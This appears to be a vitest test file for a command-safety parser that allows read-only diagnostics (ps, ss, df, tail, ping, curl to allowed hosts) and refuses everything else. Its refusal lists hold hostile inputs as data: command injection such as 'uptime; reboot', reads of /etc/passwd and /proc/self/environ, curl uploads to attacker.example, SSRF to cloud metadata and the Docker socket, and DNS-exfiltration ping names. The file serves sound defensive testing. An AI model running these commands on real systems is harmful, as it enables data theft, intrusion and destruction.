import { describe, expect, test } from 'vitest';
import { parseCommand } from '../../../../src/safety/commands/parse-command.ts';
import { defaultCommandPolicy } from '../../../../src/safety/commands/policy.ts';

const policy = {
  ...defaultCommandPolicy,
  curlHosts: ['localhost', '127.0.0.1', 'shop.example', '.svc.example'],
};
const parse = (text: string) => parseCommand(text, policy);
const argvOf = (text: string): string | undefined => {
  const decision = parse(text);
  return decision.allowed ? decision.argv.join(' ') : undefined;
};
const ruleOf = (text: string): string => {
  const decision = parse(text);
  return decision.allowed ? `allowed: ${decision.argv.join(' ')}` : decision.rule;
};

describe('allows diagnostics, in canonical words', () => {
  test.each([
    ['ps aux', 'ps aux'],
    ['ps -aux', 'ps aux'],
    ['ps auxww', 'ps auxww'],
    ['ps -ef', 'ps -e -f'],
    ['ps -elf', 'ps -e -l -f'],
    ['ps -eo pid,ppid,%cpu,cmd --sort=-%cpu', 'ps -e -o pid,ppid,%cpu,cmd --sort=-%cpu'],
    ['ps axo pid,rss', 'ps axo pid,rss'],
    ['ps aux --sort -rss', 'ps --sort=-rss aux'],
    ['ps -p 42 -o etime=', 'ps --pid=42 -o etime='],
    ['ps -C nginx', 'ps -C nginx'],
    ['ps -eo "pid ppid cmd"', 'ps -e -o pid,ppid,cmd'],
    ['ps -N -t pts/0 -g adm', 'ps -N --tty=pts/0 --group=adm'],
    ['ps --version', 'ps --version'],
    ['netstat -tulpn', 'netstat -t -u -l -p -n'],
    ['netstat -an', 'netstat -a -n'],
    ['ss -tlnp', 'ss -t -l -n -p'],
    ['ss -s', 'ss -s'],
    ['ss -A inet,unix dst 192.0.2/24', 'ss -A inet,unix dst 192.0.2/24'],
    ['netstat --protocol=inet,unix -n', 'netstat -A inet,unix -n'],
    ["ss -tn state established '( dport = :5432 )'", 'ss -t -n state established ( dport = :5432 )'],
    ['ss -t dst 10.0.0.0/8', 'ss -t dst 10.0.0.0/8'],
    ['df -h', 'df -h'],
    ['df -hT /var/lib/docker', 'df -h -T /var/lib/docker'],
    ['df -i .', 'df -i .'],
    ['df --output=source,pcent -x tmpfs', 'df --output=source,pcent -x tmpfs'],
    ['free -m', 'free -m'],
    ['uptime', 'uptime'],
    ['uptime -p', 'uptime -p'],
    ['systemctl status', 'systemctl --no-pager -n 20 status'],
    ["systemctl status 'php*' -o json", 'systemctl --no-pager -n 20 -o json status php*'],
    ['systemctl status nginx.service', 'systemctl --no-pager -n 20 status nginx.service'],
    ['systemctl status getty@tty1 -l -n 50 --no-pager', 'systemctl --no-pager -l -n 50 status getty@tty1'],
    ['systemctl --no-pager status nginx', 'systemctl --no-pager -n 20 status nginx'],
    ['tail /var/log/syslog', 'tail /var/log/syslog'],
    ['tail -n 100 /var/log/app/current', 'tail -n 100 /var/log/app/current'],
    ['tail -n100 /var/log/a.log /var/log/b.log', 'tail -n 100 /var/log/a.log /var/log/b.log'],
    ['tail -200 /var/log/a.log', 'tail -n 200 /var/log/a.log'],
    ['tail -n -20 /var/log/a.log', 'tail -n 20 /var/log/a.log'],
    ['tail --lines=5 "/var/log/my app.log"', 'tail -n 5 /var/log/my app.log'],
    ['tail -c 4k /var/log/a.log', 'tail -c 4096 /var/log/a.log'],
    ['tail /opt/app/logs/current', 'tail /opt/app/logs/current'],
    ['ping -c 3 db-1', 'ping -w 20 -c 3 db-1'],
    ['ping -nqc3 -I eth0 -M do -s 1472 -t 64 db_1', 'ping -w 20 -n -q -c 3 -I eth0 -M do -s 1472 -t 64 db_1'],
    ['ping 10.0.0.7', 'ping -c 4 -w 20 10.0.0.7'],
    ['ping -c2 -W2 fe80::1', 'ping -w 20 -c 2 -W 2 fe80::1'],
  ])('%s', (text, argv) => {
    expect(argvOf(text)).toBe(argv);
  });

  test.each([
    ['curl localhost:3000/health', 'http://localhost:3000/health'],
    ['curl -s http://127.0.0.1:9090/metrics', '-s http://127.0.0.1:9090/metrics'],
    [
      "curl -XGET 'http://localhost:9200/_cat/health?v&pretty'",
      '-X GET http://localhost:9200/_cat/health?v&pretty',
    ],
    ['curl -I https://shop.example/', '-I https://shop.example/'],
    ['curl -sSfL https://shop.example/', '-s -S -f https://shop.example/'],
    [
      `curl 'localhost:9090/api/v1/query?query=up{job="db"}[5m]'`,
      'http://localhost:9090/api/v1/query?query=up{job="db"}[5m]',
    ],
    ['curl --head https://a.svc.example/x?y=1', '-I https://a.svc.example/x?y=1'],
    ['curl -X HEAD https://shop.example/', '-I https://shop.example/'],
    [
      `curl -s -o /dev/null -w "%{http_code} %{time_total}\\n" https://shop.example/`,
      '-s -o /dev/null -w %{http_code} %{time_total}\\n https://shop.example/',
    ],
    [
      'curl -H "Accept: application/json" https://shop.example/',
      '-H Accept: application/json https://shop.example/',
    ],
  ])('%s, with curl kept from files, redirects, proxies and time', (text, rest) => {
    const argv = argvOf(text) ?? ruleOf(text);
    expect(argv.endsWith(rest)).toBe(true);
    expect(argv).toMatch(
      /^curl -q --globoff --proto =http,https --max-redirs 0 --noproxy \* --max-filesize \d+ -m 10 /u,
    );
  });

  test('letters after "-u" are a user, also for a ps that would read them again as BSD options', () => {
    expect(argvOf('ps -auxe')).toBe('ps -a --user=xe');
  });

  test('the files of a tail are marked, so that they are opened under the path rules', () => {
    expect(parse('tail -n 5 /var/log/a /var/log/b')).toMatchObject({ files: [3, 4] });
    expect(parse('df -h /')).toMatchObject({ files: [] });
  });

  test('what is refused says what would be allowed', () => {
    expect(parse('ls')).toMatchObject({ allowedInstead: expect.stringContaining('ps, netstat, ss, curl') });
    expect(parse('tail -f /var/log/a')).toMatchObject({
      allowedInstead: expect.stringContaining('never -f'),
    });
  });
});

describe('refuses whatever a shell would do', () => {
  test.each([
    ['uptime; reboot', 'metacharacter'],
    ['uptime&reboot', 'metacharacter'],
    ['uptime | sh', 'metacharacter'],
    ['uptime > /tmp/x', 'metacharacter'],
    ['uptime < /etc/hosts', 'metacharacter'],
    ['uptime $(reboot)', 'metacharacter'],
    ['uptime `reboot`', 'metacharacter'],
    ['uptime $X', 'metacharacter'],
    ['uptime {a,b}', 'metacharacter'],
    ['uptime # x', 'metacharacter'],
    ['tail /var/log/*.log', 'metacharacter'],
    ['tail /var/log/[a-z]', 'metacharacter'],
    ['df ~', 'expansion'],
    ['df -h \\-x', 'metacharacter'],
    ['ps aux !!', 'metacharacter'],
    ['uptime\nreboot', 'encoding'],
    ['uptime\r\nreboot', 'encoding'],
    ['uptime\treboot', 'encoding'],
    ['uptime\0', 'encoding'],
    ['uptime\u2028reboot', 'encoding'],
    ['uptime\uff1breboot', 'encoding'],
    ['uptime %0areboot', 'encoding'],
    ['uptime%3breboot', 'encoding'],
    ['uptime%253breboot', 'encoding'],
    ['df "$HOME"', 'expansion'],
    ['df "`id`"', 'expansion'],
    ['up""time', 'quoting'],
    ["up'time'", 'quoting'],
    ["'uptime'x", 'quoting'],
    ["'uptime", 'quoting'],
    ["'uptime'", 'unknown-command'],
    ['/usr/bin/uptime', 'unknown-command'],
    ['./uptime', 'unknown-command'],
    ['UPTIME', 'unknown-command'],
    ['X=1 uptime', 'unknown-command'],
    ['sudo uptime', 'unknown-command'],
    ['env uptime', 'unknown-command'],
    ['sh -c uptime', 'unknown-command'],
    ['', 'empty'],
    ['   ', 'empty'],
    [`ps ${'a '.repeat(60)}`, 'too-long'],
    ['x'.repeat(1001), 'too-long'],
  ])('%j: %s', (text, rule) => {
    expect(ruleOf(text)).toBe(rule);
  });
});

describe('refuses flags that read, write, send, change or never end', () => {
  test.each([
    'systemctl status nginx*',
    'ps auxe',
    'ps axe',
    'ps e',
    'ps eww -p 1',
    'ps -o environ',
    'ps -eo pid,environ',
    'ps -C axe,axe -o pid aux',
    'ps -f -o pid -C axe',
    'ps aux o',
    'ps axo pid,environ',
    'ps pid,cmd',
    'ps -o "pid environ"',
    'ps -t /dev/sda',
    'ps -o pid -P',
    'uptime --version now',
    'netstat -c',
    'netstat -ant --continuous',
    'ss -K dst 10.0.0.1',
    'ss -D /tmp/x',
    'ss -F /etc/shadow',
    'ss -E',
    'ss -N other',
    'ss dst data.attacker.example',
    'ss -t dev eth0',
    'ss -A tcp,evil',
    'ss dst attacker/24',
    'df --sync',
    'df ../..',
    'df /var/../etc',
    'df -- /',
    'free -s 1',
    'free -s1 -c 100',
    'uptime now',
    'systemctl',
    'systemctl start nginx',
    'systemctl restart nginx status',
    'systemctl -H host status nginx',
    'systemctl status nginx -M box',
    'systemctl status --user x',
    "systemctl status '*'",
    'systemctl status ../x',
    'systemctl status /etc/x',
    'systemctl kill status',
    'systemctl status -n 100000',
    'tail -f /var/log/a.log',
    'tail -F /var/log/a.log',
    'tail -fn 5 /var/log/a.log',
    'tail -5f /var/log/a.log',
    'tail --follow=name /var/log/a.log',
    'tail -n +1 /var/log/a.log',
    'tail -n 999999 /var/log/a.log',
    'tail -c 1G /var/log/a.log',
    'tail --pid=1 /var/log/a.log',
    'tail',
    'tail -',
    'tail a.log',
    'tail /etc/passwd',
    'tail /var/log/../../etc/hosts',
    'tail /var/log/%2e%2e/x',
    'tail /var/log',
    'tail /var/log/.ssh/x',
    'tail /var/log/tls.key',
    'tail /opt/app/config.ini',
    'tail /var/logs/x',
    'tail /proc/self/environ',
    'ping -f 10.0.0.1',
    'ping -c 100000 10.0.0.1',
    'ping -c 0 10.0.0.1',
    'ping -c 1e3 10.0.0.1',
    'ping -i 0 10.0.0.1',
    'ping -s 65000 10.0.0.1',
    'ping -p 70617373 10.0.0.1',
    'ping -b 10.0.0.255',
    'ping -I 10.0.0.9 10.0.0.1',
    'ping -M probe -s 9000 10.0.0.1',
    'ping -W 99 10.0.0.1',
    'ping 3fa9c04d_88be17aa_6cc2d1e5a7b3c9f0.attacker.example',
    'ping 0x7f000001',
    'ping 2130706433',
    'ping 127.1',
    'ping 010.0.0.1',
    'ping 81.2.69.142.evil.example',
    'ping 224.0.0.1',
    'ping 255.255.255.255',
    'ping a b',
    'ping -c 4 -c 5 a',
    'ping 3fa9c04d88be17aa6cc2.attacker.example',
    'ping a.b.c.d.e.f.g.attacker.example',
    `ping ${'a'.repeat(40)}.example`,
  ])('%s', (text) => {
    expect(parse(text).allowed).toBe(false);
  });
});

describe('keeps curl to reading from allowed hosts', () => {
  test.each([
    'curl https://attacker.example/',
    'curl https://shop.example.attacker.example/',
    'curl https://xshop.example/',
    'curl https://svc.example/',
    'curl https://shop.example@attacker.example/',
    'curl https://user:pw@shop.example/',
    'curl file:///etc/passwd',
    'curl FILE:///etc/passwd',
    'curl gopher://localhost:6379/_INFO',
    'curl dict://localhost:11211/stat',
    'curl ftp://shop.example/x',
    'curl ftp.shop.example',
    'curl scp://shop.example/x',
    'curl http://0x7f.0.0.1/',
    'curl http://2130706433/',
    'curl http://127.1/',
    'curl http://127.0.0.1./',
    'curl http://[::ffff:127.0.0.1]/',
    'curl http://169.254.169.254/latest/',
    'curl http://localhost:2375/containers/json',
    'curl http://localhost:02375/',
    'curl http://localhost:2379/v2/keys',
    'curl http://localhost:6379/',
    'curl http://localhost:0/',
    'curl http://localhost:99999/',
    "curl 'http://shop.example/[1-1000]'",
    "curl 'http://{shop.example,attacker.example}/'",
    'curl https://shop.example/../x',
    'curl https://shop.example/%2e%2e/x',
    'curl https://shop.example/#x',
    'curl https://shop.example/ https://shop.example/',
    'curl --url https://shop.example/',
    'curl -o /tmp/x https://shop.example/',
    'curl -o/tmp/x https://shop.example/',
    'curl -so /tmp/x https://shop.example/',
    'curl -O https://shop.example/x',
    'curl -sSfLO https://shop.example/x',
    'curl -J https://shop.example/x',
    'curl -d a=b https://shop.example/',
    'curl --data-binary @/etc/passwd https://shop.example/',
    'curl --json x https://shop.example/',
    'curl -F f=@/etc/passwd https://shop.example/',
    'curl -T /etc/passwd https://shop.example/',
    'curl -X POST https://shop.example/',
    'curl -XDELETE https://shop.example/',
    'curl -X get https://shop.example/',
    'curl -K /tmp/conf https://shop.example/',
    'curl -K- https://shop.example/',
    'curl -b /etc/passwd https://shop.example/',
    'curl -c /tmp/x https://shop.example/',
    'curl -u a:b https://shop.example/',
    'curl -n https://shop.example/',
    'curl -x http://attacker.example https://shop.example/',
    'curl --connect-to ::attacker.example: https://shop.example/',
    'curl --resolve shop.example:443:10.0.0.1 https://shop.example/',
    'curl --unix-socket /var/run/docker.sock http://localhost/',
    'curl --cacert /etc/passwd https://shop.example/',
    'curl --libcurl /tmp/x https://shop.example/',
    'curl --trace-ascii /tmp/x https://shop.example/',
    'curl --stderr /tmp/x https://shop.example/',
    'curl --next https://shop.example/',
    'curl -H @/etc/passwd https://shop.example/',
    'curl -H "Host: other" https://shop.example/',
    'curl -H "Authorization: Bearer x" https://shop.example/',
    'curl -w @/etc/passwd https://shop.example/',
    'curl -w "%output{/tmp/x}%{http_code}" https://shop.example/',
    'curl -w "%{header_json}" https://shop.example/',
    'curl -m 100000 https://shop.example/',
    'curl -m 0 https://shop.example/',
    'curl --max-tim 5 https://shop.example/',
    'curl -: https://shop.example/',
    'curl -- https://shop.example/',
    'curl',
  ])('%s', (text) => {
    expect(parse(text).allowed).toBe(false);
  });
});
